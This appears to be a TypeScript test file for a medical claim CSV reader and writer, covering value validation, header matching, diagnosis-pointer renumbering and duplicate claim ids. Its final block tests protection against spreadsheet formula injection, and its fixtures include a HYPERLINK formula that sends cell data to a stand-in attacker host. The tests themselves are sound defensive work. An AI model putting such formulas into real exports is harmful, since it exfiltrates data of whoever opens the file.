/**
 * The claim CSV reader and writer against the QA findings of 2026-11-25 (items 2, 4, 10, 11, 12, 16): the reader
 * reports what the X12 and claim JSON readers report (a fifth modifier, negative units, charges and NDC quantities, an
 * NDC unit outside CTP05-1's list), money past the cent, headers in another case, and no conflict for a first row's
 * invalid value; the writer writes line pointers as positions in its `diagnoses` column and reports claims that share
 * an id (rows join by claimId).
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it, test } from 'node:test';
import type { Claim } from '../../core/claim/model.ts';
import type { Problem } from '../../core/problem.ts';
import { x12SamplesDir } from '../../../test/support/shared.ts';
import { readFhirValue } from '../fhir/index.ts';
import { imfinziClaim } from '../fhir/testing.ts';
import {
  csvColumns,
  formulaSafe,
  readClaimCsv,
  writeClaimCsv,
  writeClaimCsvFile,
  type CsvColumn,
} from './csv.ts';
import { readClaimBytes, writeClaimFile } from './index.ts';

/** QA /tmp/qa3a/fh/base.csv: claim CLAIM001, a J9173 drug line, its JW waste line and 96413. */
const BASE: Partial<Record<CsvColumn, string>>[] = [
  {
    claimId: 'CLAIM001',
    payerName: 'ACME HEALTH',
    payerId: 'ACME01',
    payerKind: 'commercial',
    billingName: 'INFUSION CENTER LLC',
    billingNpi: '1234567893',
    billingTin: '123456789',
    renderingNpi: '1245319599',
    memberId: 'MEM123456',
    patientLastName: 'DOE',
    patientFirstName: 'JOHN',
    birthDate: '1960-02-14',
    sex: 'M',
    placeOfService: '11',
    frequencyCode: '7',
    priorAuthorization: 'PA-555-XYZ',
    diagnoses: 'C5091;Z5111;D649;E119;I10',
    totalCharge: '2150.50',
    line: '1',
    serviceDate: '2026-01-10',
    serviceDateTo: '2026-01-12',
    procedure: 'J9173',
    modifiers: 'JZ;KX;GA;59',
    units: '75',
    unitType: 'UN',
    charge: '1725.50',
    diagnosisPointers: '1;2;3;4',
    ndc: '00310461150',
    ndcQuantity: '3',
    ndcUnit: 'UN',
    dose: '750MG',
    note: 'DOSE 750MG',
  },
  {
    line: '2',
    serviceDate: '2026-01-10',
    procedure: 'J9173',
    modifiers: 'JW',
    units: '9.5',
    unitType: 'UN',
    charge: '200.00',
    diagnosisPointers: '2',
    ndc: '00310461150',
    ndcQuantity: '0.75',
    ndcUnit: 'ML',
    discarded: '90MG',
    note: 'WASTE 90MG',
  },
  {
    line: '3',
    serviceDate: '2026-01-10',
    procedure: '96413',
    units: '1',
    unitType: 'UN',
    charge: '225.00',
    diagnosisPointers: '1',
  },
];

/** The base CSV with every column, claim columns repeated on each row (as exports write them), rows changed. */
function csvWith(change: (rows: Partial<Record<CsvColumn, string>>[]) => void = () => undefined): string {
  const rows = BASE.map((r, i) => ({ ...(i === 0 ? {} : claimPart(BASE[0] ?? {})), ...r }));
  change(rows);
  return [csvColumns.join(','), ...rows.map((r) => csvColumns.map((c) => r[c] ?? '').join(','))].join('\n');
}
function claimPart(row: Partial<Record<CsvColumn, string>>): Partial<Record<CsvColumn, string>> {
  const upTo = csvColumns.indexOf('line');
  return Object.fromEntries(Object.entries(row).filter(([k]) => csvColumns.indexOf(k as CsvColumn) < upTo));
}
const where = (problems: readonly Problem[]): string[] =>
  problems.map((p) => `${p.severity} ${p.code} ${p.at?.line ?? ''} ${p.at?.field ?? ''}`);

describe('CSV values the X12 reader calls errors are errors here too (QA items 4, 10)', () => {
  const cases: [
    label: string,
    change: (rows: Partial<Record<CsvColumn, string>>[]) => void,
    expected: string[],
    read: (c: Claim) => unknown,
    want: unknown,
  ][] = [
    [
      'modifiers 25;59;XS;XU;GA (QA c_mod5.csv): 4 kept, GA named',
      (r) => ((r[2] as Record<string, string>)['modifiers'] = '25;59;XS;XU;GA'),
      ['error csv.value.invalid 4 modifiers'],
      (c) => c.lines[2]?.procedure.modifiers,
      ['25', '59', 'XS', 'XU'],
    ],
    [
      'units -1 (QA c_neg_units.csv), kept as sent',
      (r) => ((r[2] as Record<string, string>)['units'] = '-1'),
      ['error csv.value.invalid 4 units'],
      (c) => c.lines[2]?.units,
      -1,
    ],
    [
      'ndcQuantity -3',
      (r) => ((r[0] as Record<string, string>)['ndcQuantity'] = '-3'),
      ['error csv.value.invalid 2 ndcQuantity'],
      (c) => c.lines[0]?.drug?.quantity,
      -3,
    ],
    [
      'ndcUnit KG (QA c_ndcunit_bad.csv)',
      (r) => ((r[0] as Record<string, string>)['ndcUnit'] = 'KG'),
      ['error csv.value.invalid 2 ndcUnit'],
      (c) => c.lines[0]?.drug?.unit,
      'KG',
    ],
    [
      'ndcUnit me (case aside, an accepted unit)',
      (r) => ((r[0] as Record<string, string>)['ndcUnit'] = 'me'),
      [],
      (c) => c.lines[0]?.drug?.unit,
      'ME',
    ],
    [
      'charge -225.00',
      (r) => ((r[2] as Record<string, string>)['charge'] = '-225.00'),
      ['error csv.value.invalid 4 charge'],
      (c) => c.lines[2]?.chargeCents,
      -22500,
    ],
    [
      'totalCharge -2150.50: kept, not replaced by the sum of the lines',
      (r) => r.forEach((row) => (row.totalCharge = '-2150.50')),
      ['error csv.value.invalid 2 totalCharge'],
      (c) => c.totalChargeCents,
      -215050,
    ],
    [
      'units 0: read without a report, as the X12 and JSON readers read them',
      (r) => ((r[2] as Record<string, string>)['units'] = '0'),
      [],
      (c) => c.lines[2]?.units,
      0,
    ],
    [
      'charge 1725.505 (QA c_charge_3dec.csv): rounded, and said',
      (r) => ((r[0] as Record<string, string>)['charge'] = '1725.505'),
      ['warning csv.value.invalid 2 charge'],
      (c) => c.lines[0]?.chargeCents,
      172551,
    ],
    [
      'totalCharge 2150.501',
      (r) => r.forEach((row) => (row.totalCharge = '2150.501')),
      ['warning csv.value.invalid 2 totalCharge'],
      (c) => c.totalChargeCents,
      215050,
    ],
    [
      'charge 1725.500 (nothing past the cent)',
      (r) => ((r[0] as Record<string, string>)['charge'] = '1725.500'),
      [],
      (c) => c.lines[0]?.chargeCents,
      172550,
    ],
    [
      'a pointer past the diagnoses (QA c_ptr_bad.csv: 9 of 5): a warning, kept',
      (r) => ((r[2] as Record<string, string>)['diagnosisPointers'] = '9'),
      ['warning csv.value.invalid 4 diagnosisPointers'],
      (c) => c.lines[2]?.diagnosisPointers,
      [9],
    ],
  ];
  for (const [label, change, expected, read, want] of cases)
    it(label, () => {
      const r = readClaimCsv(csvWith(change));
      assert.deepEqual(where(r.problems), expected);
      assert.deepEqual(read(r.claims[0] as Claim), want);
    });

  it('the message names what was not kept, and the amount kept', () => {
    const mod5 = readClaimCsv(
      csvWith((r) => ((r[2] as Record<string, string>)['modifiers'] = '25;59;XS;XU;GA;KX')),
    );
    assert.match(
      mod5.problems[0]?.message ?? '',
      /Row 4, modifiers "25;59;XS;XU;GA;KX": .*GA, KX were not kept/,
    );
    const cents = readClaimCsv(csvWith((r) => ((r[0] as Record<string, string>)['charge'] = '1725.505')));
    assert.match(cents.problems[0]?.message ?? '', /"1725\.505": more than 2 decimals.* 1725\.51 was kept/);
  });
});

describe('CSV headers are matched without regard to case or blanks (QA c_header_case.csv)', () => {
  const cases: [label: string, header: string, expected: string[]][] = [
    ['CLAIMID, upper case', 'CLAIMID,PROCEDURE,UNITS,CHARGE', []],
    ['blanks around', ' claimId , procedure,units ,charge', []],
    [
      'an unknown column is still named',
      'ClaimId,Procedure,Units,Charge,Colour',
      ['warning csv.column.unknown 1 Colour'],
    ],
    [
      'the same column twice: the second is not read',
      'claimId,procedure,units,charge,CHARGE',
      ['warning csv.column.unknown 1 CHARGE'],
    ],
  ];
  for (const [label, header, expected] of cases)
    it(label, () => {
      const r = readClaimCsv(`${header}\nA1,J9173,75,1725.50${header.split(',').length > 4 ? ',x' : ''}`);
      assert.deepEqual(where(r.problems), expected);
      assert.deepEqual(
        r.claims.map((c) => [c.id, c.lines[0]?.procedure.code, c.lines[0]?.units, c.lines[0]?.chargeCents]),
        [['A1', 'J9173', 75, 172550]],
      );
    });
});

describe("a first row's invalid value is no conflict with the rows after it (QA c_sex_bad.csv)", () => {
  it('sex X on the first row, M on the others: one error, on the first row, and no conflict warnings', () => {
    const r = readClaimCsv(csvWith((rows) => ((rows[0] as Record<string, string>)['sex'] = 'X')));
    assert.deepEqual(where(r.problems), ['error csv.value.invalid 2 sex']);
    assert.equal(r.claims[0]?.patient.sex, undefined, 'nothing made up');
  });
  it('a later row that differs from a valid first row still conflicts', () => {
    const r = readClaimCsv(csvWith((rows) => ((rows[1] as Record<string, string>)['sex'] = 'F')));
    assert.deepEqual(where(r.problems), ['warning csv.claim.conflict 3 sex']);
  });
});

describe('the CSV writer writes line pointers as positions in its diagnoses column (QA item 2)', () => {
  /** QA /tmp/qa3a/fh/seqgap.json: diagnosis sequences 1, 3, 5, 7, 9; items point to [1, 3, 5, 7] and [3]. */
  const seqgap = (): Claim => {
    const fhir = imfinziClaim();
    const dx = ['C50.91', 'Z51.11', 'D64.9', 'E11.9', 'I10'];
    fhir.diagnosis = dx.map((code, i) => ({
      sequence: 2 * i + 1,
      diagnosisCodeableConcept: { coding: [{ system: 'http://hl7.org/fhir/sid/icd-10-cm', code }] },
    }));
    (fhir.item ?? [])[0]!.diagnosisSequence = [1, 3, 5, 7];
    (fhir.item ?? [])[1]!.diagnosisSequence = [3];
    const r = readFhirValue(fhir);
    assert.deepEqual(r.problems, []);
    return r.claims[0] as Claim;
  };
  const codesOf = (c: Claim): string[][] =>
    c.lines.map((l) =>
      l.diagnosisPointers.map((p) => c.diagnoses.find((d) => d.pointer === p)?.code ?? `?${p}`),
    );

  it('pointers 1, 3, 5, 7 go out as 1;2;3;4 and name the same codes read back', () => {
    const claim = seqgap();
    const written = writeClaimCsvFile([claim]);
    assert.deepEqual(written.problems, []);
    const back = readClaimCsv(written.text);
    assert.deepEqual(where(back.problems), []);
    assert.deepEqual(
      back.claims[0]?.lines.map((l) => l.diagnosisPointers),
      [[1, 2, 3, 4], [2]],
    );
    assert.deepEqual(codesOf(back.claims[0] as Claim), codesOf(claim));
    assert.deepEqual(codesOf(claim), [['C5091', 'Z5111', 'D649', 'E119'], ['Z5111']]);
  });

  const cases: [label: string, pointers: number[], written: string, expected: string[]][] = [
    [
      'a pointer in a gap (4 of 1, 3, 5, 7, 9): left out, an error',
      [1, 4],
      '1',
      ['error csv.write.invalid-value'],
    ],
    [
      'a pointer past the list (42): written as it is, a warning',
      [1, 42],
      '1;42',
      ['warning csv.write.invalid-value'],
    ],
  ];
  for (const [label, pointers, written, expected] of cases)
    it(label, () => {
      const claim = seqgap();
      (claim.lines[0] as Claim['lines'][number]).diagnosisPointers = pointers;
      const out = writeClaimCsvFile([claim]);
      assert.deepEqual(
        out.problems.map((p) => `${p.severity} ${p.code}`),
        expected,
      );
      assert.deepEqual(out.problems[0]?.data, { claimId: 'DEMO-0001', line: 1, pointer: pointers[1] });
      const row = readClaimCsv(out.text).claims[0]?.lines[0];
      assert.equal(row?.diagnosisPointers.join(';'), written);
    });
});

describe('the CSV writer reports claims that share an id (QA item 11)', () => {
  it('837P_imsweb_x12_multiple_gs.txt: 6 claims under 2 ids, an error for each repeat', () => {
    const sample = readClaimBytes(
      '837P_imsweb_x12_multiple_gs.txt',
      readFileSync(join(x12SamplesDir(), '837P_imsweb_x12_multiple_gs.txt')),
    );
    const ids = sample.claims.map((c) => c.id);
    assert.deepEqual(ids, ['A37YH556', 'A37YH667', 'A37YH556', 'A37YH667', 'A37YH556', 'A37YH667']);
    const written = writeClaimCsvFile(sample.claims);
    assert.deepEqual(
      written.problems.map((p) => [p.severity, p.code, p.data?.['claimId']]),
      [
        ['error', 'csv.write.invalid-value', 'A37YH556'],
        ['error', 'csv.write.invalid-value', 'A37YH667'],
        ['error', 'csv.write.invalid-value', 'A37YH556'],
        ['error', 'csv.write.invalid-value', 'A37YH667'],
      ],
    );
    assert.match(
      written.problems[0]?.message ?? '',
      /rows join by claimId, so the two read back as one claim/,
    );
    // The third claim's own position in the 837, so the message can be traced to its CLM.
    assert.equal(written.problems[0]?.at?.segmentId, 'CLM');
    // `convert --to csv` (writeClaimFile) passes them on.
    assert.deepEqual(
      writeClaimFile(sample.claims, 'csv').problems.map((p) => p.code),
      written.problems.map((p) => p.code),
    );
    // Nothing is left out: every line is written.
    const rows = written.text.trimEnd().split('\n').length - 1;
    assert.equal(
      rows,
      sample.claims.reduce((n, c) => n + c.lines.length, 0),
    );
  });
  it('claims with their own ids: nothing to report', () => {
    const claim = readFhirValue(imfinziClaim()).claims[0] as Claim;
    assert.deepEqual(writeClaimCsvFile([claim, { ...claim, id: 'DEMO-0002' }]).problems, []);
  });
});

describe('CSV written from claims: formulas are not run by a spreadsheet (CWE-1236)', () => {
  const claimWith = (lastName: string): Claim => {
    const [c] = readClaimCsv(
      'claimId,patientLastName,procedure,units,charge,serviceDate\nF1,SMITH,J9173,75,8000,2026-02-10\n',
    ).claims;
    assert.ok(c?.patient);
    return { ...c, patient: { ...c.patient, lastName } };
  };
  const cases: [name: string, lastName: string, cellText: string][] = [
    ['=HYPERLINK(…)', '=HYPERLINK("http://evil.example/"&A1)', `"'=HYPERLINK(""http://evil.example/""&A1)"`],
    ['+ and @', '+SUM(A1)', "'+SUM(A1)"],
    ['@', '@cmd', "'@cmd"],
    ['- before text', '-2+3', "'-2+3"],
    ['a plain name', "O'NEIL", "O'NEIL"],
    // A value that starts with the quote itself keeps it: one more is written, one taken off on reading.
    ['a quote before a formula character', "'=SUM(A1)", "''=SUM(A1)"],
    ['a quote before text', "'quoted", "''quoted"],
  ];
  for (const [name, lastName, cellText] of cases)
    test(name, () => {
      const text = writeClaimCsv([claimWith(lastName)]);
      const [header, row] = text.split(/\r?\n/);
      const column = (header ?? '').split(',').indexOf('patientLastName');
      assert.ok(column >= 0);
      assert.ok((row ?? '').includes(cellText), row);
      // Read back as written: the quote formulaSafe added is taken off again.
      assert.equal(readClaimCsv(text).claims[0]?.patient?.lastName, lastName);
    });
  test('negative amounts stay numbers', () => assert.equal(formulaSafe('-25.00'), '-25.00'));
});
